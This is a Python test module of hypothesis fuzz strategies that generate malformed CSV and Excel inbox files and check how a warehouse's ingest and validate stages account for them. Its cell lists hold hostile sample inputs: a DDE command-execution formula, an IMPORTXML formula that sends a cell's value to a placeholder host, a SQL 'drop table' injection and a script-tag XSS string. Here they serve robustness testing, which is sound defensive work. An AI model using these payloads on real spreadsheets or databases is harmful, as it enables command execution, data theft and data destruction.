"""Malformed inbox files (hypothesis strategies) and the check every one of them must pass.

A generated file is dropped alone in the inbox of a real warehouse; `ingest` + `validate` run
on it. It must never raise, and either every row is accounted for (rows_read = accepted +
quarantined + superseded in `files`, each count equal to the rows in its table) or the file is
rejected whole (status `rejected`, a quarantine row numbered 0 with a reason).

Used by test_fuzz_inbox.py (a fast slice) and fuzz_campaign.py (10,000 files, `make fuzz`).
"""

from __future__ import annotations

import io
import itertools
import traceback
import zipfile
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import duckdb
from hypothesis import strategies as st

from jumelage import warehouse
from jumelage.config import Config, load_config
from jumelage.ingest.columns import HEADERS
from jumelage.ingest.stage import ingest
from jumelage.validate.stage import validate
from tests.conftest import BASE_CONFIG, reg

RUN_DATE = date(2026, 3, 1)
_counter = itertools.count()

# -- cells -------------------------------------------------------------------------------------

DATES = [
    "2026-01-05", "2026-01-05T09:30:00", "2026-01-05 09:30", "2026-01-05T09:30:00Z",
    "2026-01-05T09:30:00-05:00", "05/01/2026", "1/5/2026", "01/05/26", "5-Jan-2026",
    "05.01.2026", "2026/01/05", "20260105", "January 5, 2026", "5 janv. 2026",
    "5 janvier 2026", "lundi 5 janvier 2026", "45296", "45296.375", "45296,375", "0", "-1",
    "2026-13-45", "2026-02-30", "0000-00-00", "9999-12-31", "1899-12-30", "1900-02-29",
    "  2026-01-05  ", "2026-01-05\u00a0", "２０２６-０１-０５", "=DATE(2026;1;5)", "=TODAY()",
    "#VALUE!", "#N/A", "NaN", "None", "null", "1e10", "2026-W02-1", "2026-005",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://x\",\"y\")",
    "=cmd|' /C calc'!A0", "\t=1", "\r=1", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
]  # fmt: skip
WEIRD = [
    "", " ", "\u00a0", "\ufeff", "\x00", "\x1a", "\u2028", "\u202e", "é" * 3, "😀",
    "\"", "\"\"", "'", ";", ",", "\t", "\r\n", "\n", "\\", "NULL", "'); drop table files; --",
    "<script>alert(1)</script>", "oui", "non", "mentor", "mentoré", "mentore", "fr,en",
    "bilingue", "présentiel", "3", "-3", "3.5", "3,5", "1e3", "99999999999999999999", "0x10",
    "a@b.c", "@", "a@", "x" * 300,
]  # fmt: skip


def cells(column: str | None = None) -> st.SearchStrategy[str]:
    valid = reg()
    options = [
        st.sampled_from(WEIRD),
        st.sampled_from(FORMULAS),
        st.sampled_from(DATES),
        st.text(max_size=40),
        st.integers(-(10**12), 10**12).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(str),
    ]
    if column in valid:
        options.append(st.just(valid[column]))
    if column and "email" in column:
        options.append(st.emails().map(str))
    return st.one_of(
        st.one_of(*options),
        st.integers(10_000, 120_000).map(lambda n: "A" * n),  # enormous cell
    )


# -- whole tables --------------------------------------------------------------------------------


@st.composite
def tables(draw: st.DrawFn, kind: str) -> tuple[list[str], list[list[str]]]:
    """A header (some columns missing, duplicated, renamed, junk) and ragged rows."""
    headers = HEADERS[kind]
    shape = draw(st.integers(0, 9))
    if shape < 6:  # every column, once (rows then go through validation)
        columns = sorted(headers)
    elif shape < 8:  # missing and duplicated columns
        columns = draw(st.lists(st.sampled_from(sorted(headers)), max_size=len(headers) + 3))
    else:  # complete, one column twice
        columns = [*sorted(headers), draw(st.sampled_from(sorted(headers)))]
    header = []
    for column in columns:
        spelled = draw(st.sampled_from(headers[column]))
        header.append(draw(st.sampled_from([spelled, spelled.upper(), f" {spelled} ", spelled])))
    header += draw(st.lists(st.text(max_size=12), max_size=2))  # junk headers
    header = draw(st.permutations(header))
    canonical = [next((c for c, n in headers.items() if h.strip() in n), None) for h in header]
    n_rows = draw(st.integers(0, 12))
    rows = []
    for _ in range(n_rows):
        width = draw(st.sampled_from([len(header), len(header), max(0, len(header) - 2),
                                      len(header) + 2]))  # fmt: skip
        base = reg() if kind == "registrations" else {}
        row = []
        for i in range(width):
            column = canonical[i] if i < len(canonical) else None
            if column in base and draw(st.integers(0, 3)):
                row.append(base[column])
            else:
                row.append(draw(cells(column)))
        rows.append(row)
    if rows and draw(st.booleans()):  # duplicated (email, role): supersession
        rows.append(list(draw(st.sampled_from(rows))))
    return header, rows


SEPARATORS = [",", ";", "\t", "|"]
ENCODINGS = ["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "mac_roman", "shift_jis"]


@st.composite
def csv_bytes(draw: st.DrawFn, kind: str) -> bytes:
    choice = draw(st.integers(0, 9))
    if choice == 0:
        return draw(st.binary(max_size=2000))
    if choice == 1:
        return draw(st.sampled_from([b"", b" ", b"\n\n\n", b"\xef\xbb\xbf", b"\r\n", b";;;\n"]))
    header, rows = draw(tables(kind))
    separator = draw(st.sampled_from(SEPARATORS))
    newline = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    mixed = draw(st.booleans()) and draw(st.booleans())
    lines = []
    for n, row in enumerate([header, *rows]):
        sep = draw(st.sampled_from(SEPARATORS)) if mixed and n else separator
        quoted = []
        for cell in row:
            if any(c in cell for c in (sep, '"', "\n", "\r")) or draw(st.integers(0, 9)) == 0:
                cell = '"' + cell.replace('"', '""') + '"'
            quoted.append(cell)
        lines.append(sep.join(quoted))
    text = newline.join(lines) + draw(st.sampled_from(["", newline]))
    encoding = draw(st.sampled_from(ENCODINGS))
    data = text.encode(encoding, errors="replace")
    mutation = draw(st.integers(0, 7))
    if mutation == 0 and data:  # truncated
        data = data[: draw(st.integers(0, len(data)))]
    elif mutation == 1:  # a burst of random bytes somewhere
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.binary(min_size=1, max_size=30)) + data[at:]
    elif mutation == 2:  # an unbalanced quote
        data = data.replace(b",", b',"', 1)
    return data


def _xlsx_of(header: list[str], rows: list[list[str]], typed: bool) -> bytes:
    """A real workbook; with `typed`, cells that look like dates or numbers are stored as such
    (Excel date serials with a date format, floats), as a spreadsheet's own save gives."""
    import datetime as dt

    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet()
    date_format = book.add_format({"num_format": "dd/mm/yyyy"})
    stamp_format = book.add_format({"num_format": "yyyy-mm-dd hh:mm"})
    for r, row in enumerate([header, *rows]):
        for c, cell in enumerate(row):
            value: object = cell
            if typed and r:
                try:
                    parsed = dt.datetime.fromisoformat(cell.strip())
                except ValueError:
                    parsed = None
                if parsed is not None and 1900 <= parsed.year <= 9999:
                    fmt = stamp_format if parsed.hour or parsed.minute else date_format
                    sheet.write_datetime(r, c, parsed.replace(tzinfo=None), fmt)
                    continue
                try:
                    value = float(cell)
                except ValueError:
                    value = cell
                if isinstance(value, float) and value == value and abs(value) < 1e300:
                    sheet.write_number(r, c, value)
                    continue
            sheet.write_string(r, c, cell)
    book.close()
    return buffer.getvalue()


@st.composite
def xlsx_bytes(draw: st.DrawFn, kind: str) -> bytes:
    choice = draw(st.integers(0, 7))
    if choice == 0:
        return draw(st.binary(max_size=2000))
    header, rows = draw(tables(kind))
    rows = [[c[:32000] for c in r] for r in rows]  # Excel's own cell limit
    header = [h[:32000] for h in header]
    data = _xlsx_of(header, rows, typed=draw(st.booleans()))
    if choice == 1:  # truncated workbook
        return data[: draw(st.integers(0, len(data)))]
    if choice == 2:  # a zip, but not a workbook
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as z:
            z.writestr("xl/workbook.xml", draw(st.binary(max_size=200)))
        return buffer.getvalue()
    if choice == 3:  # a CSV saved as .xlsx
        return b"email;role\na@b.c;mentor\n"
    if choice == 4 and len(data) > 100:  # corrupted bytes inside the zip
        at = draw(st.integers(30, len(data) - 10))
        return data[:at] + draw(st.binary(min_size=1, max_size=8)) + data[at + 8 :]
    return data


@dataclass(frozen=True)
class InboxCase:
    name: str
    data: bytes


@st.composite
def inbox_files(draw: st.DrawFn) -> InboxCase:
    kind = draw(st.sampled_from(["registrations", "events"]))
    prefix = draw(
        st.sampled_from(
            {"registrations": ["registrations", "inscriptions", "Inscriptions "],
             "events": ["events", "evenements", "Événements-"]}[kind]
        )
    )  # fmt: skip
    if draw(st.integers(0, 3)) == 0:
        return InboxCase(f"{prefix}-{next(_counter)}.xlsx", draw(xlsx_bytes(kind)))
    return InboxCase(f"{prefix}-{next(_counter)}.csv", draw(csv_bytes(kind)))


# -- the check ---------------------------------------------------------------------------------


@dataclass
class Workbench:
    """One program and its warehouse, reused by many examples (one file at a time)."""

    root: Path
    config: Config = field(init=False)
    con: duckdb.DuckDBPyConnection = field(init=False)

    def __post_init__(self) -> None:
        self.root.mkdir(parents=True, exist_ok=True)
        (self.root / "jumelage.toml").write_text(BASE_CONFIG, encoding="utf-8")
        self.config = load_config(self.root / "jumelage.toml")
        self.config.data_dir.mkdir(exist_ok=True)  # as `jumelage init` makes it
        self.con = warehouse.connect(self.config.data_dir)
        self.inbox = self.config.data_dir / "inbox"
        self.inbox.mkdir(parents=True, exist_ok=True)

    def close(self) -> None:
        self.con.close()


class Violation(AssertionError):
    """A file was neither accounted for row by row nor rejected whole."""


def check_file(bench: Workbench, case: InboxCase) -> str:
    """Drop one file, ingest + validate it, check the accounting. Returns 'read' or 'rejected'.

    Raises whatever ingest/validate raised (a traceback: a bug) or `Violation`.
    """
    for old in bench.inbox.iterdir():
        old.unlink()
    (bench.inbox / case.name).write_bytes(case.data)
    files = ingest(bench.con, bench.config.data_dir)
    results = validate(bench.con, bench.config, RUN_DATE, files)
    if len(results) != 1:
        raise Violation(f"{case.name}: {len(results)} results for one file")
    r = results[0]
    con = bench.con
    ((status, read, acc, quar, sup, error),) = con.execute(
        "select status, rows_read, rows_accepted, rows_quarantined, rows_superseded, error "
        "from files where name = ? and sha256 = ?",
        [case.name, r.sha256],
    ).fetchall()
    table = "registrations" if r.kind == "registrations" else "events"

    def count(sql: str) -> int:
        ((n,),) = con.execute(sql, [case.name, r.sha256]).fetchall()
        return int(n)

    in_table = count(f"select count(*) from {table} where file_name = ? and file_sha256 = ?")
    in_quarantine = count(
        "select count(*) from quarantine where source_file = ? and file_sha256 = ? "
        "and row_number > 0"
    )
    whole = count(
        "select count(*) from quarantine where source_file = ? and file_sha256 = ? "
        "and row_number = 0 and len(reasons) > 0"
    )
    in_superseded = count(
        "select count(*) from superseded where source_file = ? and file_sha256 = ?"
    )
    if status == "rejected":
        if not (whole == 1 and error and in_table == 0 and in_quarantine == 0):
            raise Violation(f"{case.name}: rejected without a reason row ({whole}, {error!r})")
        return "rejected"
    facts = (read, acc, quar, sup, in_table, in_quarantine, in_superseded)
    if status != "current" or read != acc + quar + sup or (acc, quar, sup) != facts[4:]:
        raise Violation(f"{case.name}: status {status}, counts {facts} do not add up")
    return "read"


def run_case(bench: Workbench, case: InboxCase) -> tuple[str, str | None]:
    """('read' | 'rejected' | 'traceback' | 'violation', detail) — never raises."""
    try:
        return check_file(bench, case), None
    except Violation as exc:
        return "violation", str(exc)
    except Exception:
        return "traceback", traceback.format_exc()
